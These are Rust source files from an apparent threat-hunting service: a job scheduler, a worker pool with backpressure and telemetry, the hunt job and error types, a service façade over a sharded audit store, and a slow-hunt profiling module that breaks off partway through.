