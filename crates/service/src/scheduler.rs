//! The concurrent hunt scheduler: a fixed worker pool draining a job
//! queue against one sharded store.
//!
//! Workers pull jobs from a shared atomic cursor (no per-worker queues —
//! hunt latencies vary by orders of magnitude, so work stealing by
//! construction beats static assignment), resolve each job to a compiled
//! plan through the shared [`PlanCache`], execute it with a
//! [`ShardedEngine`], and deposit the report at the job's submission
//! index — so the merged output is deterministic regardless of worker
//! interleaving.

use crate::cache::PlanCache;
use crate::job::{HuntJob, JobReport, ServiceError};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;
use std::time::Instant;
use threatraptor_engine::{ExecMode, HuntResult, ShardedEngine};
use threatraptor_storage::ShardedStore;

/// A scheduler borrowing a store and a plan cache. Cheap to construct;
/// the long-lived state (store, cache) lives in
/// [`crate::service::HuntService`] or with the caller.
#[derive(Debug)]
pub struct HuntScheduler<'a> {
    store: &'a ShardedStore,
    cache: &'a PlanCache,
    workers: usize,
    shard_threads: usize,
    mode: ExecMode,
}

impl<'a> HuntScheduler<'a> {
    /// A scheduler with one worker per available core. Per-hunt shard
    /// fan-out defaults to sequential (`shard_threads = 1`): with many
    /// concurrent hunts, the job level is the right place to spend cores,
    /// and nesting both levels oversubscribes the pool.
    pub fn new(store: &'a ShardedStore, cache: &'a PlanCache) -> HuntScheduler<'a> {
        let workers = std::thread::available_parallelism()
            .map(|p| p.get())
            .unwrap_or(1);
        HuntScheduler {
            store,
            cache,
            workers,
            shard_threads: 1,
            mode: ExecMode::Scheduled,
        }
    }

    /// Sets the worker-pool size (clamped to at least 1).
    pub fn workers(mut self, workers: usize) -> HuntScheduler<'a> {
        self.workers = workers.max(1);
        self
    }

    /// Sets the per-hunt shard fan-out thread count.
    pub fn shard_threads(mut self, threads: usize) -> HuntScheduler<'a> {
        self.shard_threads = threads.max(1);
        self
    }

    /// Sets the execution strategy (default: the paper's scheduled mode).
    pub fn mode(mut self, mode: ExecMode) -> HuntScheduler<'a> {
        self.mode = mode;
        self
    }

    /// Configured worker count.
    pub fn worker_count(&self) -> usize {
        self.workers
    }

    /// Runs a batch of jobs to completion on the worker pool and returns
    /// reports in submission order.
    pub fn run(&self, jobs: Vec<HuntJob>) -> Vec<JobReport> {
        let n = jobs.len();
        let cursor = AtomicUsize::new(0);
        let slots: Vec<Mutex<Option<JobReport>>> = (0..n).map(|_| Mutex::new(None)).collect();

        std::thread::scope(|scope| {
            for _ in 0..self.workers.min(n.max(1)) {
                scope.spawn(|| loop {
                    let i = cursor.fetch_add(1, Ordering::Relaxed);
                    if i >= n {
                        break;
                    }
                    let report = self.run_job(i, &jobs[i]);
                    *slots[i].lock().expect("result slot poisoned") = Some(report);
                });
            }
        });

        slots
            .into_iter()
            .map(|slot| {
                slot.into_inner()
                    .expect("result slot poisoned")
                    .expect("every job index was claimed by a worker")
            })
            .collect()
    }

    /// Executes one job directly (no pool) — also the worker body.
    pub fn run_job(&self, index: usize, job: &HuntJob) -> JobReport {
        let t0 = Instant::now();
        let (tbql, cache_hit, outcome) = self.resolve_and_execute(job);
        JobReport {
            index,
            job: job.clone(),
            tbql,
            outcome,
            cache_hit,
            elapsed: t0.elapsed(),
        }
    }

    /// Convenience single hunt for a TBQL query through the cache.
    pub fn hunt(&self, tbql: &str) -> Result<HuntResult, ServiceError> {
        self.run_job(0, &HuntJob::tbql(tbql)).outcome
    }

    fn resolve_and_execute(
        &self,
        job: &HuntJob,
    ) -> (Option<String>, bool, Result<HuntResult, ServiceError>) {
        let tbql_src = match job {
            HuntJob::Tbql(src) => src.clone(),
            HuntJob::Report(text) => match self.cache.synthesize_report(text) {
                Ok(tbql) => tbql,
                Err(e) => return (None, false, Err(ServiceError::Synthesis(e))),
            },
        };
        let (plan, cache_hit) = match self.cache.plan(&tbql_src) {
            Ok(v) => v,
            Err(e) => return (Some(tbql_src), false, Err(ServiceError::Engine(e))),
        };
        let engine = ShardedEngine::with_threads(self.store, self.shard_threads);
        let outcome = engine
            .execute(&plan.compiled, self.mode)
            .map_err(ServiceError::Engine);
        (Some(plan.tbql.clone()), cache_hit, outcome)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn store() -> ShardedStore {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage, AttackKind::PasswordCrack])
            .target_events(5_000)
            .build();
        ShardedStore::ingest(&sc.log, true, 4)
    }

    #[test]
    fn batch_reports_come_back_in_submission_order() {
        let store = store();
        let cache = PlanCache::new();
        let sched = HuntScheduler::new(&store, &cache).workers(4);
        let jobs: Vec<HuntJob> = (0..12)
            .map(|i| {
                if i % 2 == 0 {
                    HuntJob::tbql(FIG2_TBQL)
                } else {
                    HuntJob::tbql("proc p[\"%/bin/ghost%\"] read file f return p")
                }
            })
            .collect();
        let reports = sched.run(jobs);
        assert_eq!(reports.len(), 12);
        for (i, r) in reports.iter().enumerate() {
            assert_eq!(r.index, i);
            let result = r.outcome.as_ref().expect("valid TBQL executes");
            assert_eq!(result.is_empty(), i % 2 != 0, "job {i}");
        }
        // 2 distinct plans retained; concurrent first touches may each
        // count a miss (up to one per worker per plan), so bound hits
        // from below by the worst-case race rather than exactly.
        let s = cache.stats();
        assert_eq!(s.plans, 2);
        assert_eq!(s.hits + s.misses, 12);
        assert!(s.hits >= 12 - 2 * 4, "too few cache hits: {}", s.hits);
    }

    #[test]
    fn report_jobs_synthesize_then_hunt() {
        let store = store();
        let cache = PlanCache::new();
        let sched = HuntScheduler::new(&store, &cache).workers(2);
        let reports = sched.run(vec![
            HuntJob::report(threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT),
            HuntJob::report("Nothing interesting happened today."),
        ]);
        let ok = &reports[0];
        assert!(ok.tbql.as_deref().unwrap().contains("%/bin/tar%"));
        assert!(!ok.outcome.as_ref().unwrap().is_empty());
        let bad = &reports[1];
        assert!(matches!(bad.outcome, Err(ServiceError::Synthesis(_))));
        assert!(bad.tbql.is_none());
    }

    #[test]
    fn bad_tbql_surfaces_engine_error() {
        let store = store();
        let cache = PlanCache::new();
        let sched = HuntScheduler::new(&store, &cache);
        let err = sched.hunt("totally broken").unwrap_err();
        assert!(matches!(err, ServiceError::Engine(_)));
    }

    #[test]
    fn empty_batch_is_fine() {
        let store = store();
        let cache = PlanCache::new();
        let reports = HuntScheduler::new(&store, &cache).run(Vec::new());
        assert!(reports.is_empty());
    }
}
