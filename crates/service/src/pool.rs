//! The shared worker pool: detached threads draining one bounded task
//! queue.
//!
//! The original scheduler spawned a fresh set of *scoped* threads per
//! batch — fine for one-shot batch hunts, wrong for a long-lived server:
//! scoped threads cannot outlive their borrow, so every submission wave
//! paid thread start-up, and there was no queue to absorb bursts or push
//! back on producers. This pool inverts that:
//!
//! * workers are **detached** `'static` threads spawned once, pulling
//!   tasks from a shared multi-consumer channel
//!   ([`crossbeam::channel`]) — idle workers cost nothing but a parked
//!   thread;
//! * the queue is **bounded**: submission blocks when full
//!   (backpressure), so a slow pool throttles producers instead of
//!   buffering unboundedly;
//! * a panicking task is caught in the worker loop — the worker survives
//!   and moves on to the next task (task-level error reporting is the
//!   submitter's job, e.g. via [`crate::job::ServiceError::Worker`]);
//! * [`WorkerPool::shutdown`] is graceful: the queue stops accepting new
//!   tasks, already queued tasks drain, and every worker is joined.

use crossbeam::channel::{bounded, Receiver, Sender, TrySendError};
use std::panic::{catch_unwind, AssertUnwindSafe};
use threatraptor_obs::{Counter, Gauge, Registry};
use threatraptor_sync::thread::JoinHandle;
use threatraptor_sync::{Arc, Mutex, PoisonError};

/// A unit of pool work.
pub type Task = Box<dyn FnOnce() + Send + 'static>;

/// Why a submission did not enqueue.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SubmitError {
    /// The queue is at capacity (only from [`WorkerPool::try_submit`]).
    Full,
    /// The pool has been shut down.
    Shutdown,
}

/// Registry handles for pool telemetry, shared by every worker thread.
#[derive(Debug, Clone)]
struct PoolObs {
    /// `job_queue_depth`: tasks enqueued but not yet picked up.
    queue_depth: Arc<Gauge>,
    /// `pool_tasks_completed_total`: tasks a worker finished (panicking
    /// tasks count — the worker survived and completed the dispatch).
    completed: Arc<Counter>,
    /// `pool_rejected_total`: submissions refused (queue full or pool
    /// shut down).
    rejected: Arc<Counter>,
}

/// A fixed-size pool of detached worker threads behind a bounded queue.
#[derive(Debug)]
pub struct WorkerPool {
    /// `None` once shut down; dropping the sender disconnects the queue.
    tx: Mutex<Option<Sender<Task>>>,
    handles: Mutex<Vec<JoinHandle<()>>>,
    workers: usize,
    /// Telemetry handles, when built via [`WorkerPool::with_metrics`].
    obs: Option<PoolObs>,
}

impl WorkerPool {
    /// Spawns `workers` detached threads (clamped to ≥ 1) sharing one
    /// queue of at most `queue_capacity` pending tasks (clamped to ≥ 1).
    pub fn new(workers: usize, queue_capacity: usize) -> WorkerPool {
        Self::build(workers, queue_capacity, None)
    }

    /// [`WorkerPool::new`] with pool telemetry registered on `registry`:
    /// a `job_queue_depth` gauge plus `pool_tasks_completed_total` and
    /// `pool_rejected_total` counters. Attached at construction because
    /// the worker threads capture their handles at spawn time.
    pub fn with_metrics(workers: usize, queue_capacity: usize, registry: &Registry) -> WorkerPool {
        let obs = PoolObs {
            queue_depth: registry.gauge("job_queue_depth"),
            completed: registry.counter("pool_tasks_completed_total"),
            rejected: registry.counter("pool_rejected_total"),
        };
        Self::build(workers, queue_capacity, Some(obs))
    }

    fn build(workers: usize, queue_capacity: usize, obs: Option<PoolObs>) -> WorkerPool {
        let workers = workers.max(1);
        let (tx, rx) = bounded::<Task>(queue_capacity.max(1));
        let handles = (0..workers)
            .map(|i| {
                let rx: Receiver<Task> = rx.clone();
                let obs = obs.clone();
                threatraptor_sync::thread::Builder::new()
                    .name(format!("hunt-worker-{i}"))
                    .spawn(move || {
                        // recv drains buffered tasks even after the
                        // sender is dropped, then disconnects — exactly
                        // the graceful-shutdown order we want.
                        while let Ok(task) = rx.recv() {
                            if let Some(obs) = &obs {
                                obs.queue_depth.dec();
                            }
                            // A panicking task must not kill the worker:
                            // the pool serves unrelated tenants.
                            let _ = catch_unwind(AssertUnwindSafe(task));
                            if let Some(obs) = &obs {
                                obs.completed.inc();
                            }
                        }
                    })
                    .expect("spawning a worker thread")
            })
            .collect();
        WorkerPool {
            tx: Mutex::new(Some(tx)),
            handles: Mutex::new(handles),
            workers,
            obs,
        }
    }

    /// Number of worker threads.
    pub fn worker_count(&self) -> usize {
        self.workers
    }

    /// Enqueues a task, blocking while the queue is full (backpressure).
    /// Fails only after [`WorkerPool::shutdown`].
    pub fn submit(&self, task: Task) -> Result<(), SubmitError> {
        // Clone the sender out of the lock so a blocking send doesn't
        // hold it (shutdown must stay reachable while producers block).
        let tx = self
            .tx
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone();
        let outcome = match tx {
            Some(tx) => {
                // Count the task as queued before the (possibly
                // blocking) send so the gauge covers backpressured
                // producers too; rolled back on failure.
                if let Some(obs) = &self.obs {
                    obs.queue_depth.inc();
                }
                let sent = tx.send(task).map_err(|_| SubmitError::Shutdown);
                if sent.is_err() {
                    if let Some(obs) = &self.obs {
                        obs.queue_depth.dec();
                    }
                }
                sent
            }
            None => Err(SubmitError::Shutdown),
        };
        if outcome.is_err() {
            if let Some(obs) = &self.obs {
                obs.rejected.inc();
            }
        }
        outcome
    }

    /// Non-blocking submission: fails fast when the queue is full.
    pub fn try_submit(&self, task: Task) -> Result<(), SubmitError> {
        let tx = self
            .tx
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone();
        let outcome = match tx {
            Some(tx) => {
                if let Some(obs) = &self.obs {
                    obs.queue_depth.inc();
                }
                let sent = tx.try_send(task).map_err(|e| match e {
                    TrySendError::Full(_) => SubmitError::Full,
                    TrySendError::Disconnected(_) => SubmitError::Shutdown,
                });
                if sent.is_err() {
                    if let Some(obs) = &self.obs {
                        obs.queue_depth.dec();
                    }
                }
                sent
            }
            None => Err(SubmitError::Shutdown),
        };
        if outcome.is_err() {
            if let Some(obs) = &self.obs {
                obs.rejected.inc();
            }
        }
        outcome
    }

    /// Graceful shutdown: stops accepting tasks, lets queued tasks drain,
    /// joins every worker. Idempotent; called automatically on drop.
    pub fn shutdown(&self) {
        let tx = self
            .tx
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .take();
        drop(tx); // disconnects the queue once in-flight clones finish
        let handles =
            std::mem::take(&mut *self.handles.lock().unwrap_or_else(PoisonError::into_inner));
        for handle in handles {
            let _ = handle.join();
        }
    }
}

/// Seeded deadlock (mutant CI job): two probes that nest the pool's two
/// locks in opposite orders — `tx` under `handles` in one, `handles`
/// under `tx` in the other. Real code never nests them (guards are
/// statement-local temporaries), so the lint's lock-order graph is
/// acyclic on the real tree; `threatraptor-lint --include-mutants` must
/// flag this cycle as L002.
#[cfg(check_mutants)]
impl WorkerPool {
    pub fn mutant_probe_handles_then_tx(&self) -> usize {
        let handles = self.handles.lock().unwrap_or_else(PoisonError::into_inner);
        let tx = self.tx.lock().unwrap_or_else(PoisonError::into_inner);
        handles.len() + usize::from(tx.is_some())
    }

    pub fn mutant_probe_tx_then_handles(&self) -> usize {
        let tx = self.tx.lock().unwrap_or_else(PoisonError::into_inner);
        let handles = self.handles.lock().unwrap_or_else(PoisonError::into_inner);
        handles.len() + usize::from(tx.is_some())
    }
}

impl Drop for WorkerPool {
    fn drop(&mut self) {
        self.shutdown();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::Arc;

    #[test]
    fn tasks_run_and_shutdown_drains_the_queue() {
        let pool = WorkerPool::new(2, 4);
        let done = Arc::new(AtomicUsize::new(0));
        for _ in 0..32 {
            let done = Arc::clone(&done);
            pool.submit(Box::new(move || {
                done.fetch_add(1, Ordering::SeqCst);
            }))
            .unwrap();
        }
        pool.shutdown();
        assert_eq!(done.load(Ordering::SeqCst), 32, "queued tasks must drain");
        assert_eq!(
            pool.submit(Box::new(|| {})),
            Err(SubmitError::Shutdown),
            "a shut-down pool must reject new tasks"
        );
    }

    #[test]
    fn panicking_tasks_do_not_kill_workers() {
        let pool = WorkerPool::new(1, 4);
        let done = Arc::new(AtomicUsize::new(0));
        pool.submit(Box::new(|| panic!("task boom"))).unwrap();
        let d = Arc::clone(&done);
        pool.submit(Box::new(move || {
            d.fetch_add(1, Ordering::SeqCst);
        }))
        .unwrap();
        pool.shutdown();
        assert_eq!(
            done.load(Ordering::SeqCst),
            1,
            "the single worker must survive the panic and run the next task"
        );
    }

    #[test]
    fn metrics_track_queue_depth_and_completions() {
        let registry = Registry::new();
        let pool = WorkerPool::with_metrics(1, 2, &registry);
        let (block_tx, block_rx) = crossbeam::channel::bounded::<()>(1);
        // Occupy the worker so queued tasks pile up measurably.
        pool.submit(Box::new(move || {
            let _ = block_rx.recv();
        }))
        .unwrap();
        pool.submit(Box::new(|| {})).unwrap();
        // A rejected try_submit must not leave a phantom queue entry.
        let mut rejected = 0;
        while pool.try_submit(Box::new(|| {})) == Err(SubmitError::Full) {
            rejected += 1;
            if rejected >= 1 {
                break;
            }
        }
        let depth = registry.gauge("job_queue_depth").get();
        assert!(
            (1..=2).contains(&depth),
            "blocked worker → 1-2 queued tasks, saw {depth}"
        );
        block_tx.send(()).unwrap();
        pool.shutdown();
        assert_eq!(pool.submit(Box::new(|| {})), Err(SubmitError::Shutdown));
        let snap = registry.snapshot();
        assert_eq!(snap.gauge("job_queue_depth"), Some(0), "drained");
        let completed = snap.counter("pool_tasks_completed_total").unwrap();
        assert!(completed >= 2, "both real tasks completed");
        assert_eq!(
            snap.counter("pool_rejected_total"),
            Some(rejected as u64 + 1),
            "the Full rejections plus the post-shutdown probe"
        );
    }

    #[test]
    fn try_submit_reports_a_full_queue() {
        let pool = WorkerPool::new(1, 1);
        let (block_tx, block_rx) = crossbeam::channel::bounded::<()>(1);
        // Occupy the worker…
        pool.submit(Box::new(move || {
            let _ = block_rx.recv();
        }))
        .unwrap();
        // …then fill the queue; at some point try_submit must push back.
        let mut saw_full = false;
        for _ in 0..8 {
            if pool.try_submit(Box::new(|| {})) == Err(SubmitError::Full) {
                saw_full = true;
                break;
            }
        }
        block_tx.send(()).unwrap();
        assert!(saw_full, "a bounded queue must report Full under load");
        pool.shutdown();
    }
}
