//! Hunt jobs and their outcomes.

use std::fmt;
use std::time::Duration;
use threatraptor_engine::{EngineError, HuntResult};
use threatraptor_synth::SynthesisError;
use threatraptor_tbql::lint::Diagnostic;

/// One unit of work for the scheduler: hunt either a ready-made TBQL
/// query or a raw OSCTI report (which is first run through extraction and
/// query synthesis, exactly like [`ThreatRaptor::hunt_report`]).
///
/// [`ThreatRaptor::hunt_report`]: https://docs.rs/threatraptor
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HuntJob {
    /// A TBQL query, executed as-is.
    Tbql(String),
    /// Raw OSCTI text, extracted and synthesized into TBQL first.
    Report(String),
}

impl HuntJob {
    /// A TBQL job.
    pub fn tbql(src: impl Into<String>) -> HuntJob {
        HuntJob::Tbql(src.into())
    }

    /// An OSCTI-report job.
    pub fn report(text: impl Into<String>) -> HuntJob {
        HuntJob::Report(text.into())
    }

    /// The job's source text (TBQL or report, whichever it carries).
    pub fn source(&self) -> &str {
        match self {
            HuntJob::Tbql(s) | HuntJob::Report(s) => s,
        }
    }

    /// Short kind label for logs and tables.
    pub fn kind(&self) -> &'static str {
        match self {
            HuntJob::Tbql(_) => "tbql",
            HuntJob::Report(_) => "report",
        }
    }
}

/// Errors a job can fail with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ServiceError {
    /// The report yielded no synthesizable behavior.
    Synthesis(SynthesisError),
    /// The static analyzer proved the query can never match (error-level
    /// lint diagnostics: temporal infeasibility, contradictory filters).
    /// Rejected at compile time, before any rows are scanned.
    Infeasible(Vec<Diagnostic>),
    /// Parsing, analysis, compilation, or execution failed.
    Engine(EngineError),
    /// The worker executing the job panicked; carries the panic payload
    /// rendered as text. The worker itself survives (panic isolation in
    /// the pool) — only this job is lost.
    Worker(String),
    /// The job was rejected or abandoned because the server is shutting
    /// down.
    Shutdown,
}

impl fmt::Display for ServiceError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ServiceError::Synthesis(e) => write!(f, "query synthesis: {e}"),
            ServiceError::Infeasible(diags) => {
                write!(f, "query rejected by static analysis: ")?;
                for (i, d) in diags.iter().enumerate() {
                    if i > 0 {
                        write!(f, "; ")?;
                    }
                    write!(f, "{d}")?;
                }
                Ok(())
            }
            ServiceError::Engine(e) => write!(f, "query execution: {e}"),
            ServiceError::Worker(msg) => write!(f, "hunt worker panicked: {msg}"),
            ServiceError::Shutdown => f.write_str("hunt server is shutting down"),
        }
    }
}

impl std::error::Error for ServiceError {}

impl From<SynthesisError> for ServiceError {
    fn from(e: SynthesisError) -> Self {
        ServiceError::Synthesis(e)
    }
}

impl From<EngineError> for ServiceError {
    fn from(e: EngineError) -> Self {
        match e {
            EngineError::Infeasible(diags) => ServiceError::Infeasible(diags),
            other => ServiceError::Engine(other),
        }
    }
}

/// The outcome of one scheduled job. Batch reports are returned in
/// submission order regardless of which worker finished first; `Clone`
/// so a completion handle ([`crate::server::JobHandle`]) can hand out
/// the result while the server retains nothing.
#[derive(Debug, Clone)]
pub struct JobReport {
    /// Submission index of the job in the batch.
    pub index: usize,
    /// The job as submitted.
    pub job: HuntJob,
    /// The TBQL the job resolved to (for report jobs, the synthesized
    /// query; `None` when synthesis failed).
    pub tbql: Option<String>,
    /// Matched records, or the error that stopped the job.
    pub outcome: Result<HuntResult, ServiceError>,
    /// Whether the compiled plan was served from the cache.
    pub cache_hit: bool,
    /// Wall-clock time this job spent executing (including any extraction
    /// and compilation).
    pub elapsed: Duration,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn job_accessors() {
        let j = HuntJob::tbql("proc p read file f return p");
        assert_eq!(j.kind(), "tbql");
        assert!(j.source().starts_with("proc"));
        let j = HuntJob::report("Attackers stole /etc/passwd.");
        assert_eq!(j.kind(), "report");
    }

    #[test]
    fn error_display() {
        let e = ServiceError::from(SynthesisError::EmptyGraph);
        assert!(e.to_string().contains("synthesis"));
    }

    #[test]
    fn infeasible_engine_errors_map_to_infeasible() {
        use threatraptor_tbql::error::Span;
        use threatraptor_tbql::lint::Severity;
        let diag = Diagnostic {
            code: "E001",
            severity: Severity::Error,
            span: Span::new(0, 4),
            message: "window is empty".into(),
        };
        let e = ServiceError::from(EngineError::Infeasible(vec![diag]));
        assert!(matches!(e, ServiceError::Infeasible(_)));
        let text = e.to_string();
        assert!(text.contains("static analysis"), "{text}");
        assert!(text.contains("E001"), "{text}");
        // Non-infeasible engine errors keep the Engine wrapper.
        let e = ServiceError::from(EngineError::Execution("boom".into()));
        assert!(matches!(e, ServiceError::Engine(_)));
    }
}
