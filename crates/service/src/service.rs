//! The owning service façade: sharded store + plan cache + scheduler
//! configuration in one long-lived value.

use crate::cache::{CacheStats, PlanCache};
use crate::follow::FollowHunt;
use crate::job::{HuntJob, JobReport, ServiceError};
use crate::scheduler::HuntScheduler;
use std::sync::Arc;
use threatraptor_audit::parser::ParsedLog;
use threatraptor_engine::{ExecMode, HuntResult};
use threatraptor_storage::{AuditStore, ShardedStore};

/// Service construction parameters.
#[derive(Debug, Clone)]
pub struct ServiceConfig {
    /// Number of store shards.
    pub shards: usize,
    /// Worker-pool size for batch hunts.
    pub workers: usize,
    /// Per-hunt shard fan-out threads (1 = job-level parallelism only,
    /// the right default when `workers` already covers the cores).
    pub shard_threads: usize,
    /// Apply Causality-Preserved Reduction during ingestion.
    pub cpr: bool,
    /// Execution strategy for all hunts.
    pub mode: ExecMode,
}

impl Default for ServiceConfig {
    fn default() -> ServiceConfig {
        let cores = std::thread::available_parallelism()
            .map(|p| p.get())
            .unwrap_or(1);
        ServiceConfig {
            shards: 8,
            workers: cores,
            shard_threads: 1,
            cpr: true,
            mode: ExecMode::Scheduled,
        }
    }
}

impl ServiceConfig {
    /// Default config with `shards` shards.
    pub fn with_shards(shards: usize) -> ServiceConfig {
        ServiceConfig {
            shards,
            ..ServiceConfig::default()
        }
    }

    /// Sets the worker-pool size.
    pub fn workers(mut self, workers: usize) -> ServiceConfig {
        self.workers = workers.max(1);
        self
    }

    /// Sets the per-hunt shard fan-out thread count.
    pub fn shard_threads(mut self, threads: usize) -> ServiceConfig {
        self.shard_threads = threads.max(1);
        self
    }
}

/// A multi-hunt execution service over one ingested log: owns the
/// sharded store and the plan cache, hands batches to a worker pool.
///
/// ```
/// use threatraptor_audit::sim::scenario::ScenarioBuilder;
/// use threatraptor_service::{HuntJob, HuntService, ServiceConfig};
///
/// let scenario = ScenarioBuilder::new().seed(42).target_events(3_000).build();
/// let service = HuntService::from_parsed(&scenario.log, ServiceConfig::with_shards(4));
/// let reports = service.run(vec![
///     HuntJob::tbql(threatraptor_tbql::parser::FIG2_TBQL),
///     HuntJob::report(threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT),
/// ]);
/// assert!(reports.iter().all(|r| !r.outcome.as_ref().unwrap().is_empty()));
/// ```
#[derive(Debug)]
pub struct HuntService {
    store: Arc<ShardedStore>,
    cache: Arc<PlanCache>,
    config: ServiceConfig,
    /// The persistent scheduler: its detached worker pool is shared by
    /// every batch this service runs.
    scheduler: HuntScheduler,
}

impl HuntService {
    /// Ingests a parsed log into `config.shards` shards (parallel, with
    /// global CPR when `config.cpr`).
    pub fn from_parsed(log: &ParsedLog, config: ServiceConfig) -> HuntService {
        let store = ShardedStore::ingest(log, config.cpr, config.shards);
        Self::from_sharded(store, config)
    }

    /// Re-partitions an existing single store (its reduction setting is
    /// kept; `config.cpr` is ignored on this path).
    pub fn from_store(store: &AuditStore, config: ServiceConfig) -> HuntService {
        let store = ShardedStore::from_store(store, config.shards);
        Self::from_sharded(store, config)
    }

    /// Wraps an existing sharded store.
    pub fn from_sharded(store: ShardedStore, config: ServiceConfig) -> HuntService {
        let store = Arc::new(store);
        let cache = Arc::new(PlanCache::new());
        let scheduler = HuntScheduler::new(Arc::clone(&store), Arc::clone(&cache))
            .workers(config.workers)
            .shard_threads(config.shard_threads)
            .mode(config.mode);
        HuntService {
            store,
            cache,
            config,
            scheduler,
        }
    }

    /// The underlying sharded store.
    pub fn store(&self) -> &ShardedStore {
        &self.store
    }

    /// The service configuration.
    pub fn config(&self) -> &ServiceConfig {
        &self.config
    }

    /// Plan/synthesis cache counters.
    pub fn cache_stats(&self) -> CacheStats {
        self.cache.stats()
    }

    /// The persistent scheduler over this service's store and cache (the
    /// worker pool spawns on the first batch and is reused afterwards).
    pub fn scheduler(&self) -> &HuntScheduler {
        &self.scheduler
    }

    /// Runs a batch of jobs on the worker pool; reports come back in
    /// submission order.
    pub fn run(&self, jobs: Vec<HuntJob>) -> Vec<JobReport> {
        self.scheduler.run(jobs)
    }

    /// Hunts a single TBQL query (through the plan cache).
    pub fn hunt_tbql(&self, tbql: &str) -> Result<HuntResult, ServiceError> {
        self.scheduler.hunt(tbql)
    }

    /// Hunts a single OSCTI report end-to-end (through both caches).
    pub fn hunt_report(&self, report: &str) -> Result<HuntResult, ServiceError> {
        self.run(vec![HuntJob::report(report)])
            .pop()
            .expect("one job in, one report out")
            .outcome
    }

    /// Opens a follow-mode hunt: the query is compiled once through this
    /// service's plan cache and evaluated against the (static) store; the
    /// returned handle can then be polled with successive snapshots of a
    /// *growing* store — typically
    /// [`crate::ingest::IngestService::snapshot`] views — and yields only
    /// the matches that newly appeared. (Polling it again with this
    /// service's own store is free: the store does not grow.)
    pub fn hunt_follow(&self, tbql: &str) -> Result<FollowHunt, ServiceError> {
        let (plan, _) = self.cache.plan(tbql).map_err(ServiceError::from)?;
        let mut follow = FollowHunt::new(plan, self.config.mode, self.config.shard_threads);
        follow.poll(&self.store)?;
        Ok(follow)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn service() -> HuntService {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(4_000)
            .build();
        HuntService::from_parsed(&sc.log, ServiceConfig::with_shards(4).workers(4))
    }

    #[test]
    fn end_to_end_tbql_and_report_hunts() {
        let svc = service();
        let direct = svc.hunt_tbql(FIG2_TBQL).unwrap();
        assert!(!direct.is_empty());
        let via_report = svc
            .hunt_report(threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT)
            .unwrap();
        assert_eq!(direct.rows, via_report.rows);
    }

    #[test]
    fn cache_persists_across_batches() {
        let svc = service();
        svc.run(vec![HuntJob::tbql(FIG2_TBQL)]);
        svc.run(vec![HuntJob::tbql(FIG2_TBQL)]);
        let stats = svc.cache_stats();
        assert_eq!(stats.misses, 1, "second batch must reuse the plan");
        assert_eq!(stats.hits, 1);
    }

    #[test]
    fn hunt_follow_seeds_from_the_static_store() {
        let svc = service();
        let mut follow = svc.hunt_follow(FIG2_TBQL).unwrap();
        let seeded = follow.result().expect("initial poll ran").clone();
        assert!(!seeded.matches.is_empty());
        assert_eq!(seeded.rows, svc.hunt_tbql(FIG2_TBQL).unwrap().rows);
        // This store never grows: re-polling it is free and empty.
        let delta = follow.poll(svc.store()).unwrap();
        assert!(delta.unchanged);
    }

    #[test]
    fn from_store_re_partitions() {
        let sc = ScenarioBuilder::new().seed(7).target_events(2_000).build();
        let single = AuditStore::ingest(&sc.log, true);
        let svc = HuntService::from_store(&single, ServiceConfig::with_shards(3));
        assert_eq!(svc.store().shard_count(), 3);
        assert_eq!(svc.store().event_count(), single.event_count());
    }
}
