//! Per-hunt execution profiles and the slow-hunt log.
//!
//! Every ad-hoc job the [`HuntServer`](crate::server::HuntServer)
//! executes produces a [`HuntProfile`]: the job's [`TraceTree`]
//! (queue-wait and exec spans under the job root, per-pattern scan
//! children with rows-scanned attributes) plus the headline numbers an
//! operator triages by. Profiles are retained in a bounded
//! [`SlowHuntLog`] — the worst-N by end-to-end latency — so "why was
//! this hunt slow?" stays answerable after the fact without keeping
//! every execution forever.

use std::time::Duration;
use threatraptor_sync::{Arc, Mutex, PoisonError};

use crate::server::JobId;
use threatraptor_obs::{TraceId, TraceTree};

/// One executed job's profile.
#[derive(Debug, Clone)]
pub struct HuntProfile {
    /// The job this profile describes.
    pub job_id: JobId,
    /// Trace id shared with the job's [`JobHandle`](crate::JobHandle).
    pub trace_id: TraceId,
    /// The TBQL the job resolved to (`None` when synthesis failed).
    pub tbql: Option<String>,
    /// Outcome label: `ok`, `error`, `panicked`, or `rejected`.
    pub status: &'static str,
    /// Whether the compiled plan came from the cache.
    pub cache_hit: bool,
    /// Complete matches produced (0 on error).
    pub matches: usize,
    /// Submit → worker pickup.
    pub queue_wait: Duration,
    /// Worker execution time.
    pub exec: Duration,
    /// End-to-end latency (submit → completion) — the slow-hunt log's
    /// ranking key.
    pub latency: Duration,
    /// The hierarchical span tree (exportable as Chrome `trace_event`
    /// JSON via [`TraceTree::to_chrome_trace`]).
    pub trace: TraceTree,
}

/// Bounded ring of the worst-N profiles by end-to-end latency.
///
/// All mutation happens under one mutex, so under concurrent
/// completions the retained set is exactly the N largest latencies
/// recorded (ties broken toward earlier job ids).
#[derive(Debug)]
pub(crate) struct SlowHuntLog {
    capacity: usize,
    entries: Mutex<Vec<Arc<HuntProfile>>>,
}

impl SlowHuntLog {
    /// Creates a log retaining at most `capacity` profiles (≥ 1).
    pub(crate) fn new(capacity: usize) -> SlowHuntLog {
        SlowHuntLog {
